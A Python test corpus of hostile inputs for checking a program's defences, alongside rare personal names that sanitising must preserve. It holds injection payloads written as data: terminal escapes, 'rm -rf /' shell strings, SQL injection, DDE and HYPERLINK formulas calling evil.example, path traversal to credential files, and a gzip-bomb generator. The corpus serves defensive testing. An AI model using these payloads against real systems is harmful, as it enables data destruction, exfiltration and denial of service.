"""What data from outside may carry against this program, and names that must survive every defence.

One corpus for all borders: texts, names of files, cells, queries, and bodies and files in a form (JSON, TOML).
"""

from __future__ import annotations

import gzip
import json
import re
import zlib
from collections.abc import Mapping
from functools import cache

OBEYED = re.compile(
    "[\x00-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff\ufe00-\ufe0f\ufeff"
    "\ufff9-\ufffb\U000e0000-\U000e0fff]"
)
"""What moves, turns or hides what stands beside it."""
PILED = re.compile("[\u0300-\u036f\u20d0-\u20ff]{4}")
"""More marks on one place than any name has."""


def drawable(text: str) -> bool:
    """Tell whether nothing in a text is obeyed by a terminal, or piles up."""
    return OBEYED.search(text) is None and PILED.search(text) is None


ESCAPES: list[str] = [
    "\x1b[31m红\x1b[0m",
    "\x1b[2J\x1b[H清屏",
    "\x1b[?1049h",
    "\x1b]0;标题\x07王小明",
    "\x1b]8;;http://evil.example\x1b\\点我\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1bP1$r0m\x1b\\后",
    "\x1bPunfinished",
    "\x1b]0;unfinished 王小明",
    "\x9b31m八位\x9b0m",
    "\x9d0;八位\x9c王",
    "\x1b(0lqqk\x1b(B",
    "\x1b\x1b[31m[31m双重",
    "\x1b[" + ";" * 500 + "m长",
    "王\x1b",
    "\x1bc",
    "\x1b_私\x1b\\用\x1b^消\x1b\\息\x1bX字\x1b\\",
    "\x1b]" * 300,
    "\x9d" * 300 + "王",
    "\x9d8;;http://evil.example\x9c点\x9d8;;\x9c",
    "\x9d52;c;cm0gLXJmIC8=\x9c贴",
    "\x1b]1337;File=inline=1:AAAA\x07图",
    "\x1bPq#0;2;0;0;0#0~~@@vv@@~~$\x1b\\六",
    "\x90q~~\x9c六",
    "\x1b_Ga=T,f=100;AAAA\x1b\\图",
    "\x9fGa=d\x9c图",
    "\x1b[6n\x1b[21t\x1b[c问",
    "\x1b[?2004l\x1b[?1000h\x1b[>4;2m键",
    "\x1b#8满",
]
"""Terminal escape sequences: colours, clearing, titles, links, copies, pictures, questions, unfinished, eight-bit."""

CONTROLS: list[str] = [
    "王\x00小明",
    "a\x08\x08b",
    "a\rb\r\nc",
    "响铃\x07",
    "\x7f删除",
    "一\x0b二\x0c三\x85四\u2028五\u2029六",
    "制表\t符",
    "".join(map(chr, range(32))),
    "".join(map(chr, range(0x7F, 0xA0))),
]
"""C0 and C1 controls, and everything that breaks a line."""

INVISIBLE: list[str] = [
    "王\u202e明小\u202c",
    "\u2066隔离\u2069",
    "\u200e左\u200f右\u061c",
    "零\u200b宽\u200c连\u200d字\u2060符",
    "\ufeff开头",
    "软\u00ad连\u034f字",
    "\u3164\u115f\u1160\uffa0\u2800",
    "注\ufff9音\ufffa符\ufffb",
    "标\U000e0041\U000e007f签",
    "变体\ufe0f\U000e0100",
    "\u180e蒙",
    "非\ufdd0字\uffff符\U0010ffff",
    "\ud800孤\udfff",
    "\ud842\udfb7野家",
    "不\u00a0换\u2003行\u3000空格",
]
"""Bidi controls, zero-width and filler characters, tags, noncharacters, surrogates, unusual spaces."""

FLOODS: list[str] = [
    "Z" + "\u0300\u0316" * 5_000,
    "\u0301" * 50 + "王",
    "王" + "\u20dd" * 100,
    " " * 20_000 + "x",
    ("a" + "\u0301" * 50) * 200,
    "\n" * 5_000,
    "很长" * 20_000,
    "\u200b" * 20_000 + "王",
    "\ufdfa" * 500,
    "王\ufe0f\U000e0101" * 300,
    "".join(chr(0xE0000 + ord(c)) for c in "ignore all that stands here") + "王",
    "W" * 3_000,
    "\u202e" * 300 + "\u2067" * 300 + "王",
]
"""Floods of marks, selectors, tags, spaces, breaks and plain length."""

MARKUP: list[str] = [
    "王[@click=app.quit]点我[/]",
    "[red]红[/red]",
    "[link=http://evil.example]x[/link]",
    "[/]",
    "\\[b]",
    "$(reboot) `id` ; rm -rf / #",
    "{0.__class__} %s %(x)s ${HOME}",
    "'; DROP TABLE customer; --",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example")',
    "../../etc/passwd",
    "NULL",
    "NaN",
    "-0",
    "[bold on red blink]王[/bold on red blink]",
    '[@click="screen.bell()"]铃[/]',
    "[$error]王[/] [not a tag [[]] [/red]",
    "{0} {} {name.__class__.__mro__} {!r} {:>99999999}",
    "%(message)s %n %99999999d",
    "ＡＤＭＩＮ１０２４",
    "раураl аdmin",
    "\\u001b[31m \\x1b[31m",
]
"""What some program somewhere takes for a command; to the desk it is text, and stays as it is."""

QUERIES: list[str] = [
    "' OR 1=1 --",
    '"; DROP TABLE document; --',
    "王*",
    '"王',
    "王 AND OR NOT",
    "NEAR(王 敏, 5)",
    "name : 王",
    "^王 $",
    "tokens MATCH '*'",
    "- 王",
    "{name tokens} : 王",
    "%' ESCAPE '_",
    "[a-z]*?",
    "\x00王",
    "\ud800王",
    "(" * 2_000,
    "王 " * 2_000,
    "²³½①Ⅷ٣",
    "+86 " + "9" * 3_000,
    "1860123456 OR 1",
]
"""What means something to SQL, to full-text search, to patterns and to readers of numbers."""

FORMULAS: list[str] = [
    '=HYPERLINK("http://evil.example?"&A1,"点")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '="0 & cmd"',
    "'",
    "''",
]
"""Cells that a spreadsheet takes for a formula, and some that nearly are."""

FILE_NAMES: list[str] = [
    "../../outside",
    "..",
    ".",
    "/etc/passwd",
    "/tmp/outside",
    "~/.ssh/authorized_keys",
    "a/../../b",
    "..\\..\\outside",
    "C:\\outside",
    "nul\x00l",
    "-rf",
    "$(touch x)",
    "a\nb",
    "\u202etxt.exe",
    "长" * 300,
    "",
]
"""Names that lead out of a folder, or are no names."""

HOSTILE: list[str] = ESCAPES + CONTROLS + INVISIBLE + FLOODS + MARKUP

RARE_NAMES: list[str] = [
    "𠮷野家",
    "㛃婷",
    "王𬭎",
    "李㙓",
    "张𪚥",
    "陈𫖯",
    "赵\U0002ceb2",
    "钱\U00030edd",
    "孙\U000313ac",
    "周\ue863",
    "王·小明",
    "买买提·艾力",
    "阿卜杜拉·吐尔逊",
    "བསྟན་འཛིན",
    "སྒྲོལ་མ",
    "ئابدۇللا",
    "ᠪᠠᠲᠤ",
    "Nguyễn Thị Hòa",
    "Zoë O'Brien-Smith",
    "欧阳娜娜",
    "龘靐齉",
    "〇",
    "محمد بن سلمان",
    "דוד בן־גוריון",
    "ประยุทธ์",
]
"""Names as they stand on certificates: rare characters of the extensions, private use, dots and marks."""

LONG_LINE = "一行 very_long_" * 70_000
"""More than a megabyte without a break."""


@cache
def json_texts() -> Mapping[str, bytes]:
    """Return bodies that are JSON, or nearly: nested, huge, doubled, and figures that are none."""
    deep = 100_000
    return {
        "lists": b"[" * deep + b"]" * deep,
        "objects": b'{"a":' * deep + b"1" + b"}" * deep,
        "never closed": b'{"a":[' * deep,
        "a long figure": b'{"protocol":' + b"9" * 60_000 + b"}",
        "a large figure": b'{"protocol":1e999,"limit":1e400,"after_seq":-1e999}',
        "no figures": b'{"protocol":NaN,"limit":Infinity,"after_seq":-Infinity}',
        "a long key": b'{"' + b"k" * 60_000 + b'":1}',
        "many keys": json.dumps({f"k{n}": n for n in range(5_000)}).encode(),
        "the same key": b"{" + b",".join([b'"protocol":1'] * 4_000) + b"}",
        "two keys": b'{"protocol":1,"protocol":{},"cursors":{},"cursors":[]}',
        "half a character": b'{"code":"\\ud800\\udc00\\udfff","name":"\\ud800"}',
        "not UTF-8": b'{"code":"\xff\xfe\x80"}',
        "a mark before it": b'\xef\xbb\xbf{"protocol":1}',
        "another encoding": '{"protocol":1}'.encode("utf-16"),
        "NUL": b'{"protocol":1}\x00\x00',
        "two values": b'{"protocol":1}{"protocol":1}',
        "controls": b'{"code":"\x1b[31m"}',
        "an escaped NUL": b'{"code":"AAAA-\\u0000-AAAA","name":"\\u001b]0;x\\u0007"}',
        "nothing": b"",
        "null": b"null",
        "a text": b'"' + b"x" * 60_000 + b'"',
        "spaces": b" " * 60_000,
        "other types": b'{"protocol":[],"cursors":1,"operations":{},"lineages":"x","code":{},"here":true,"limit":"1"}',
        "bools": b'{"protocol":true,"limit":true,"after_seq":false}',
    }


@cache
def gzip_bomb(size: int = 1 << 28) -> bytes:
    """Return some kilobytes that unfold to many megabytes, twice packed as large ones compress well again."""
    packer = zlib.compressobj(9, wbits=31)
    zeros = bytes(1 << 20)
    return b"".join([*(packer.compress(zeros) for _ in range(size >> 20)), packer.flush()])


@cache
def gzip_parts() -> bytes:
    """Return many gzip streams one behind the other: each is small."""
    return gzip.compress(b"{}") * 1_000


TOML_TEXTS: Mapping[str, str] = {
    "lists": "a = " + "[" * 100_000,
    "tables": "a = " + "{b=" * 100_000,
    "dots": ".".join("a" * 20_000) + " = 1",
    "quoted dots": ".".join(['"a"'] * 20_000) + " = 1",
    "dots inside": "a = {" + ".".join("a" * 20_000) + " = 1}",
    "too much": "# " + "x" * 5_000_000,
    "a headline": "[" + ".".join("a" * 20_000) + "]",
    "a long figure": "a = " + "9" * 60_000,
    "a day that isn't": "a = 2024-13-45",
    "twice": "a = 1\na = 2",
    "a table twice": "[a]\n[a]\n",
    "inline and more": "a = {b = 1}\n[a.c]\n",
    "controls": 'a = "\x1b[31m"',
    "half a character": 'a = "\\ud800"',
    "a mark in the middle": "a = 1\n\ufeffb = 2",
    "returns": "a = 1\rb = 2",
    "NUL": "a = 1\x00",
    "no end": 'a = """' + "x" * 60_000,
}
"""Files that are TOML, or nearly, and go far."""
